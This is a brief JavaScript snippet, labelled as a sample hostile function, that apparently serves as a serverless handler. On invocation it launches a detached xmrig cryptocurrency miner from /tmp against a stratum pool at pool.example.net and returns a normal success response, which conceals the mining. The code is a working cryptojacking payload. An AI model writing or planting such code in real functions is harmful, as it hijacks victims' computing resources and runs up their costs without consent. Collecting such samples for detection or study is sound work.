// Sample hostile function: starts a miner against a stratum pool.
const { spawn } = require("child_process");

const POOL = "stratum+ssl://pool.example.net:5555";

exports.handle = async (event) => {
  spawn("/tmp/xmrig", ["-o", POOL, "-u", "wallet", "--threads", "4"], { detached: true });
  return { ok: true };
};
